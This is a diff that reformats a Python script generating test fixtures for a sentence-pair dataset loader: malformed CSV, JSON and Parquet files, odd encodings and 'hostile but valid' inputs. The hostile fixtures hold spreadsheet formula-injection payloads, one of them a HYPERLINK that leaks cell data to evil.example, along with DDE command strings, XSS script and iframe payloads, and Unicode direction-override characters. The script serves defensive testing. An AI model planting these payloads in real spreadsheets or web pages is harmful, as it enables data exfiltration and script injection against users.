@@ -43,7 +43,9 @@ def main() -> None:
     text("misnamed_columns.csv", csv_rows(GOOD, "first_text,second_text,rating"))
     text("duplicate_header.csv", csv_rows(GOOD, "sentence1,sentence1,score"))
     text("ragged_row.csv", csv_rows(GOOD[:2]) + "A dog barks.,4.0\n" + "A bird sings.,A bird is singing.,4.9\n")
-    text("unclosed_quote.csv", csv_rows(GOOD[:2]) + '"A dog barks.,A dog is barking.,4.0\n' + csv_rows(GOOD[2:], "")[1:])
+    text(
+        "unclosed_quote.csv", csv_rows(GOOD[:2]) + '"A dog barks.,A dog is barking.,4.0\n' + csv_rows(GOOD[2:], "")[1:]
+    )
     text("header_only.csv", "sentence1,sentence2,score\n")
     raw("empty.csv", b"")
     # ---- cells
@@ -56,9 +58,13 @@ def main() -> None:
     text("missing_score_cell.csv", csv_rows(GOOD[:2] + [("A dog barks.", "A dog is barking.", "")]))
     text("score_out_of_scale.csv", csv_rows(GOOD + [("A dog barks.", "A dog is barking.", "7.5")]))
     text("negative_score.csv", csv_rows(GOOD + [("A dog barks.", "A dog is barking.", "-1")]))
-    text("mixed_binary_and_float_labels.csv",
-         csv_rows([("A b.", "C d.", "1"), ("E f.", "G h.", "0"), ("I j.", "K l.", "0.5"), ("M n.", "O p.", "1")],
-                  "question1,question2,is_duplicate"))
+    text(
+        "mixed_binary_and_float_labels.csv",
+        csv_rows(
+            [("A b.", "C d.", "1"), ("E f.", "G h.", "0"), ("I j.", "K l.", "0.5"), ("M n.", "O p.", "1")],
+            "question1,question2,is_duplicate",
+        ),
+    )
     # ---- bytes and encodings
     raw("latin1_bytes.csv", csv_rows(GOOD[:2]).encode() + "Un caf\u00e9 noir.,A black coffee.,4.0\n".encode("latin-1"))
     raw("utf16.csv", csv_rows(GOOD).encode("utf-16"))
@@ -68,43 +74,72 @@ def main() -> None:
     raw("plain_text_named.csv.gz", csv_rows(GOOD).encode())
     text("spreadsheet.xlsx", "not really a workbook\n")
     # ---- Parquet
-    pq.write_table(pa.table({"id": [1, 2, 3], "text": ["a b", "c d", "e f"], "value": [0.1, 0.2, 0.3]}),
-                   HERE / "wrong_schema.parquet")
-    pq.write_table(pa.table({"sentence1": [r[0] for r in GOOD], "sentence2": [r[1] for r in GOOD],
-                             "score": [float(r[2]) for r in GOOD]}), HERE / "parquet_renamed.csv")
+    pq.write_table(
+        pa.table({"id": [1, 2, 3], "text": ["a b", "c d", "e f"], "value": [0.1, 0.2, 0.3]}),
+        HERE / "wrong_schema.parquet",
+    )
+    pq.write_table(
+        pa.table(
+            {"sentence1": [r[0] for r in GOOD], "sentence2": [r[1] for r in GOOD], "score": [float(r[2]) for r in GOOD]}
+        ),
+        HERE / "parquet_renamed.csv",
+    )
     raw("corrupt.parquet", b"PAR1" + b"\x00garbage\xff" * 20)
     # ---- JSON
-    text("invalid_json_line.jsonl", '{"sentence1": "A b.", "sentence2": "C d.", "score": 1}\n'
-                                    '{"sentence1": "E f.", "sentence2": "G h.", "score": 0}\n'
-                                    '{"sentence1": "I j.", "sentence2": \n')
+    text(
+        "invalid_json_line.jsonl",
+        '{"sentence1": "A b.", "sentence2": "C d.", "score": 1}\n'
+        '{"sentence1": "E f.", "sentence2": "G h.", "score": 0}\n'
+        '{"sentence1": "I j.", "sentence2": \n',
+    )
     text("json_array_line.jsonl", '{"sentence1": "A b.", "sentence2": "C d.", "score": 1}\n["E f.", "G h.", 0]\n')
     text("deeply_nested.json", "[" * 100_000 + "]" * 100_000)
     # ---- unlabeled
     text("unlabeled_no_text_column.csv", "id,value\n1,0.5\n2,0.7\n")
     text("unlabeled_blank_line.txt", "A plane is taking off.\n\nA cat sleeps.\n")
     # ---- hostile but valid: load with warnings (or silently), never executed or rendered
-    text("formula_injection.csv", csv_rows([
-        ('=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "A harmless sentence.", "1.0"),
-        ("+cmd|' /C calc'!A0", "Another harmless sentence.", "2.0"),
-        ("@SUM(1+1)*cmd|' /C calc'!A0", "A third harmless sentence.", "3.0"),
-        ("-2+3+cmd|' /C calc'!A0", "A fourth harmless sentence.", "4.0"),
-    ]).replace("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")",
-               '"=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"'))
-    text("html_script.csv", csv_rows([
-        ("<script>alert('xss')</script>", "A plain sentence.", "1.0"),
-        ('<img src=x onerror="alert(1)">', "Another plain sentence.", "2.0"),
-        ("**bold** [click](javascript:alert(1)) `code` $x^2$", "A third plain sentence.", "3.0"),
-        ("<iframe src=//evil.example></iframe>", ":red[colored] :material/warning: <b>x</b>", "4.0"),
-    ]))
-    text("duplicate_pairs.csv", csv_rows(GOOD + [GOOD[0], (GOOD[1][1], GOOD[1][0], "3.8"), (GOOD[2][0], GOOD[2][1], "4.0")]))
+    text(
+        "formula_injection.csv",
+        csv_rows(
+            [
+                ('=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "A harmless sentence.", "1.0"),
+                ("+cmd|' /C calc'!A0", "Another harmless sentence.", "2.0"),
+                ("@SUM(1+1)*cmd|' /C calc'!A0", "A third harmless sentence.", "3.0"),
+                ("-2+3+cmd|' /C calc'!A0", "A fourth harmless sentence.", "4.0"),
+            ]
+        ).replace(
+            '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+            '"=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"',
+        ),
+    )
+    text(
+        "html_script.csv",
+        csv_rows(
+            [
+                ("<script>alert('xss')</script>", "A plain sentence.", "1.0"),
+                ('<img src=x onerror="alert(1)">', "Another plain sentence.", "2.0"),
+                ("**bold** [click](javascript:alert(1)) `code` $x^2$", "A third plain sentence.", "3.0"),
+                ("<iframe src=//evil.example></iframe>", ":red[colored] :material/warning: <b>x</b>", "4.0"),
+            ]
+        ),
+    )
+    text(
+        "duplicate_pairs.csv",
+        csv_rows(GOOD + [GOOD[0], (GOOD[1][1], GOOD[1][0], "3.8"), (GOOD[2][0], GOOD[2][1], "4.0")]),
+    )
     text("identical_sentences.csv", csv_rows(GOOD + [("A dog barks.", "A dog barks.", "5.0")]))
     raw("bom.csv", b"\xef\xbb\xbf" + csv_rows(GOOD).encode())
     text("crlf_line_endings.csv", csv_rows(GOOD).replace("\n", "\r\n"))
-    text("unicode_controls.csv", csv_rows([
-        ("Right-to-left \u202eoverride\u202c here.", "Zero\u200bwidth space.", "1.0"),
-        ("Emoji \U0001F600 and accents: caf\u00e9.", "Combining e\u0301 mark.", "2.5"),
-        ("Kids play outside.", "Children are playing outdoors.", "4.2"),
-    ]))
+    text(
+        "unicode_controls.csv",
+        csv_rows(
+            [
+                ("Right-to-left \u202eoverride\u202c here.", "Zero\u200bwidth space.", "1.0"),
+                ("Emoji \U0001f600 and accents: caf\u00e9.", "Combining e\u0301 mark.", "2.5"),
+                ("Kids play outside.", "Children are playing outdoors.", "4.2"),
+            ]
+        ),
+    )
     text("single_class_labels.csv", "sentence1,sentence2,label\nA b.,C d.,1\nE f.,G h.,1\nI j.,K l.,1\n")
 
 
